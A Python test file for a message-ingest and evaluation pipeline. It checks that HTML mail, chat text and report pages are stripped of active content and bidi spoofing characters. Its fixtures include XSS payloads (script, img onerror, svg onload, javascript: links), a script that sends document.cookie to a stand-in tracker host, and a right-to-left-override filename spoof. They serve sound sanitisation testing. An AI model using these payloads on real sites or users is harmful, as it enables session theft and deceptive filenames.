"""No active content reaches datasets or reports: HTML mail loses its scripts, styles, tracking pixels
and event handlers (every tag, in fact); message text loses the invisible characters that make it
display as something else (bidi overrides and isolates, direction marks, zero-width space, BOM) and
control characters, while emoji joined by ZWJ stay whole; and the HTML pages that show message
text (evaluation report, blind test) escape it. The chat page is covered by tests/training/test_serve.py
(test_chat_page_sends_a_message_and_shows_the_reply sends an <img onerror> and finds no img).

The layer is the ingest: body_text in the raw Parquet is what dbt, the datasets and the model read.
body_raw stays the text as exported (the audit copy, which message ids hash).
"""

from __future__ import annotations

import json
import time
from html.parser import HTMLParser
from pathlib import Path

import pyarrow.parquet as pq
from hypothesis import given, settings
from hypothesis import strategies as st

from ingest.core.config import Config
from ingest.runner import ingest_platform
from ingest.sources.gmail.html_text import html_to_text
from ingest.sources.text import neutralise
from training.evaluation import blind
from training.evaluation import report as eval_report
from training.evaluation.arms import ARMS
from training.evaluation.evaluate import Scored

SPOOFING = "\u202e\u202d\u202a\u202b\u202c\u2066\u2067\u2068\u2069\u200e\u200f\u200b\u061c\u2060\ufeff"
FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467"  # man ZWJ woman ZWJ girl: one emoji
FLAG = "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"  # Scotland: tag characters
XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    "\"'><iframe src=javascript:alert(4)>",
    "</p><a href='javascript:alert(5)' onclick='alert(6)'>x</a>",
]


def landed(platform: str, paths: list[Path], tmp_path: Path) -> list[dict]:
    report = ingest_platform(platform, paths, Config(), me_names=("Robin Vale",), warehouse=tmp_path / "wh")
    assert report.ok and report.results, report.errors
    return [row for r in report.results for row in pq.read_table(r.path).to_pylist()]


# --- (a) HTML mail -------------------------------------------------------------------------------------

HTML_MAIL = """<html><head><style>body{background:url(https://tracker.example/css.png)} .x{color:red}</style>
<script src="https://tracker.example/a.js"></script><title>STYLE-TITLE</title></head>
<body onload="steal()"><div style="display:none">PREHEADER-HIDDEN</div>
<p onclick="alert('click')">Dinner at <b>eight</b>?</p>
<img src="https://tracker.example/open.gif?id=42" width="1" height="1" alt="">
<img src=x onerror="alert('img')"><a href="javascript:alert('link')" onmouseover="alert('hover')">see you</a>
<script>document.location='https://tracker.example/?c='+document.cookie</script>
<iframe src="https://tracker.example/frame"></iframe>
<form action="https://tracker.example/f"><input value="FORM-VALUE"></form>
<svg onload="alert('svg')"><circle r=1></circle></svg>
<!-- <script>alert('comment')</script> --><noscript><img src="https://tracker.example/ns.gif"></noscript>
&lt;script&gt; is how you write a script tag
<script>unclosed('to the end')
"""
ACTIVE = (
    "tracker.example",
    "alert",
    "steal",
    "onerror",
    "onclick",
    "onload",
    "onmouseover",
    "javascript:",
    "document.",
    "STYLE-TITLE",
    "PREHEADER-HIDDEN",
    "color:red",
    "unclosed",
    "FORM-VALUE",
)


def test_html_mail_lands_as_text_without_active_content(tmp_path):
    mbox = tmp_path / "Inbox.mbox"
    mbox.write_text(
        "From 1@xxx Mon Jan 02 10:11:12 +0000 2023\nMessage-ID: <h1@x>\n"
        "Date: Mon, 2 Jan 2023 10:11:12 +0000\nFrom: Sam <sam@example.com>\nSubject: dinner\n"
        "Content-Type: text/html; charset=utf-8\n\n" + HTML_MAIL + "\n"
    )
    (row,) = landed("gmail", [mbox], tmp_path)
    for column in ("body_raw", "body_text"):
        text = row[column]
        assert "Dinner at eight?" in text and "see you" in text
        assert not [a for a in ACTIVE if a in text], column
        # the only "<" left is the one the sender wrote as text (&lt;), which renderers escape like any text
        assert text.count("<") == 1 and "<script> is how you write a script tag" in text


# Fragments of mail HTML: markup that must vanish with what it carries (attributes, script and style
# content all hold "PAYLOAD"), and visible words that must stay.
markup = st.sampled_from(
    [
        "<script>PAYLOAD()</script>",
        "<script type='x'>if(a<b)PAYLOAD()</script>",
        "<style>.PAYLOAD{}</style>",
        "<img src='PAYLOAD' onerror='PAYLOAD()'>",
        "<img src=PAYLOAD width=1 height=1/>",
        '<p onclick="PAYLOAD">',
        "</p>",
        "<div style='display:none'>PAYLOAD</div>",
        "<a href='javascript:PAYLOAD'>",
        "</a>",
        "<br>",
        "<!-- PAYLOAD -->",
        "<![CDATA[PAYLOAD]]>",
        "<head><title>PAYLOAD</title></head>",
        "<td>",
        "</td>",
        "<table><tr>",
        "<span hidden>PAYLOAD</span>",
        "<iframe src=PAYLOAD></iframe>",
        "<svg onload=PAYLOAD>",
        "<",
        ">",
        "&amp;",
        "&lt;",
        "&gt;",
        "<b",
        "<style",
        "<!--",
        "<script>",
    ]
)
words = st.sampled_from(["hello", "dinner", "at", "eight", "ok", "👍", FAMILY])


@settings(deadline=None)
@given(st.lists(markup | words, max_size=40), st.sampled_from(["", "<script>PAYLOAD(", "<style>.PAYLOAD{"]))
def test_no_markup_payload_survives_html_to_text(pieces, cut_off):
    """cut_off: a mail that ends inside a script or style (a browser runs or applies it to the end)."""
    text = html_to_text(" ".join(pieces) + cut_off)
    assert "PAYLOAD" not in text
    assert not any(tag in text.lower() for tag in ("<img", "<script", "<svg", "<iframe", "<a ", "onerror", "onclick"))


def test_html_to_text_runs_in_linear_time_on_hostile_markup():
    """Unclosed tags, comments and CDATA once made each "<" scan to the end: minutes for 100 KB."""
    for unit in (
        "<style>",
        "<a x ",
        "<a",
        "<![CDATA[",
        "<head>",
        "<div hidden>",
        "<div style='display:none' ",
        "<p title='<'>",
        "<scr<b>ipt>",
    ):
        doc = unit * (200_000 // len(unit))
        start = time.perf_counter()
        html_to_text(doc)
        assert time.perf_counter() - start < 1.0, unit


# --- (b) invisible characters in message text ------------------------------------------------------


def spoofed(i: int) -> str:
    return f"pay {SPOOFING[i % len(SPOOFING)]}txt.exe{SPOOFING} {i} \x00\x1b[31mred\x7f\x85 {FAMILY} {FLAG}"


def clean(i: int) -> str:
    return f"pay txt.exe {i} [31mred {FAMILY} {FLAG}"


def test_whatsapp_text_lands_without_bidi_and_control_characters(tmp_path):
    chat = tmp_path / "WhatsApp Chat with Sam.txt"
    chat.write_text(
        "".join(f"12/03/2023, 14:0{i} - Sam: {spoofed(i)}\n" for i in range(5))
        + "12/03/2023, 14:06 - Robin Vale: \u200e<Media omitted>\n"
    )
    rows = landed("whatsapp", [chat], tmp_path)
    assert [r["body_text"] for r in rows[:5]] == [clean(i) for i in range(5)]
    assert [r["body_raw"] for r in rows[:5]] == [spoofed(i) for i in range(5)]  # the audit copy, as exported
    assert rows[5]["content_type"] != "text" and rows[5]["body_text"] is None  # a marker, not text


def test_meta_text_lands_without_bidi_and_control_characters(tmp_path):
    thread = tmp_path / "export/your_instagram_activity/messages/inbox/sam_1"
    thread.mkdir(parents=True)
    messages = [{"sender_name": "Sam", "timestamp_ms": 1_700_000_000_000 + i, "content": spoofed(i)} for i in range(5)]
    # Meta writes UTF-8 bytes as latin-1 code points
    (thread / "message_1.json").write_text(
        json.dumps(
            json.loads(
                json.dumps({"participants": [{"name": "Sam"}], "messages": messages}),
                object_hook=lambda d: {
                    k: v.encode().decode("latin-1") if isinstance(v, str) else v for k, v in d.items()
                },
            )
        )
    )
    rows = landed("instagram", [tmp_path / "export"], tmp_path)
    assert sorted(r["body_text"] for r in rows) == sorted(clean(i) for i in range(5))


def test_gmail_text_and_subject_land_without_bidi_characters(tmp_path):
    mbox = tmp_path / "Inbox.mbox"
    mbox.write_text(
        "From 1@xxx Mon Jan 02 10:11:12 +0000 2023\nMessage-ID: <b1@x>\n"
        f"Date: Mon, 2 Jan 2023 10:11:12 +0000\nFrom: sam@example.com\nSubject: in\u202evoice{FAMILY}\n"
        f"Content-Type: text/plain; charset=utf-8\n\n{spoofed(0)}\n",
        encoding="utf-8",
    )
    (row,) = landed("gmail", [mbox], tmp_path)
    assert row["body_text"] == clean(0) and row["subject"] == f"invoice{FAMILY}"


@given(st.text())
def test_neutralise_removes_only_the_listed_characters(text):
    out = neutralise(text)
    assert not any(c in out for c in SPOOFING) and not any(ord(c) < 32 and c not in "\t\n\r" for c in out)
    assert out == "".join(c for c in text if c in out)  # only removes, never changes or reorders
    assert [c for c in text if c in "\u200c\u200d"] == [c for c in out if c in "\u200c\u200d"]  # joiners stay


# --- (c) pages that show message text --------------------------------------------------------------


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.handlers, self.scripts, self._in_script = [], [], [], False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.handlers += [(tag, k, v) for k, v in attrs if k.startswith("on")]
        self._in_script = tag == "script"

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)
            self._in_script = False


def parse(page: str) -> _Elements:
    parser = _Elements()
    parser.feed(page)
    parser.close()
    return parser


def _metrics(platform: str) -> dict:
    style = dict.fromkeys(eval_report._STYLE_ROWS, 0.5)
    paired = {
        key: {"estimate": -0.1, "ci": [-0.2, -0.05], "n": len(XSS), "method": "bca"}
        for key in ("nll_diff", "delta_diff", "auc_diff", "chrf_diff")
    }
    verdicts = {"nll_diff": XSS[3], "delta_diff": "no measurable difference", "auc_diff": XSS[4], "chrf_diff": XSS[1]}
    model = {
        "nll": 2.0,
        "nll_ci": [1.9, 2.1],
        "perplexity": 7.4,
        "perplexity_ci": [6.7, 8.2],
        "burrows_delta": 1.0,
        "burrows_delta_ci": [0.9, 1.1],
        "auc_real_vs_generated": 0.6,
        "chrf": 20.0,
        "chrf_ci": [15.0, 25.0],
        "stylometry": style,
        "per_platform": {platform: {"nll": 2.0, "perplexity": 7.4, "burrows_delta": 1.0}},
        "roc": {"fpr": [0.0, 1.0], "tpr": [0.0, 1.0]},
    }
    return {
        "run": XSS[0],
        "n_examples": len(XSS),
        "n_skipped_too_long": 0,
        "max_new_tokens": 16,
        "seed": 0,
        "base": model,
        "tuned": model,
        "base_memory": model,
        "tuned_memory": model,
        "memory": {"k": 4, "budget_tokens": 384, "index_exchanges": 9, "mean_exchanges": 2.5, "mean_tokens": 90.0},
        "real": {"stylometry": style},
        "warnings": [XSS[1]],
        "per_platform": {platform: {"n_examples": len(XSS)}},
        "style_signal": {"auc_me_vs_others": 0.7, "n_me": 3, "n_others": 3, "sufficient": True},
        "paired": paired,
        "verdicts": verdicts,
        "paired_vs_tuned": {"base_memory": paired, "tuned_memory": paired},
        "verdicts_vs_tuned": {"base_memory": verdicts, "tuned_memory": {**verdicts, "chrf_diff": XSS[0]}},
        "intervals": {"level": 0.95, "rounds": 1000, "method": {"nll_diff": "bca", "delta_diff": "normal"}},
    }


def test_evaluation_report_shows_message_text_only_escaped(tmp_path):
    platform = XSS[2]
    scored = [
        Scored(
            platform,
            [{"role": "system", "content": "sys"}, {"role": "user", "content": text + SPOOFING}],
            real=text,
            generated={name: XSS[(i + j + 1) % len(XSS)] for j, name in enumerate(ARMS)},
        )
        for i, text in enumerate(XSS)
    ]
    page = eval_report.render(_metrics(platform), scored, tmp_path)
    found = parse(page)
    assert found.handlers == [] and "script" not in found.tags and "iframe" not in found.tags
    assert "svg" not in found.tags and found.tags.count("a") == 1  # the report's own link to its method
    assert "<a href='#method'>method</a>" in page
    assert found.tags.count("img") == 4  # the report's own plots, data: URLs
    assert all(src.startswith("data:image/png;base64,") for src in _img_sources(page))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def _img_sources(page: str) -> list[str]:
    sources = []

    class Images(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag == "img":
                sources.append(dict(attrs)["src"])

    Images().feed(page)
    return sources


def test_blind_page_shows_message_text_only_escaped(tmp_path):
    pairs = [
        ([{"role": "user", "content": text}], XSS[(i + 1) % len(XSS)], XSS[(i + 2) % len(XSS)])
        for i, text in enumerate(XSS)
    ]
    page_path, _ = blind.write_blind(tmp_path, pairs)
    found = parse(page_path.read_text(encoding="utf-8"))
    # only the page's own save() script and button
    assert found.handlers == [("button", "onclick", "save()")]
    assert len(found.scripts) == 1 and found.scripts[0] in blind._SCRIPT
    assert not {"img", "svg", "iframe", "a"} & set(found.tags)
    assert found.tags.count("input") == 2 * len(XSS)  # the radio buttons, nothing from the texts
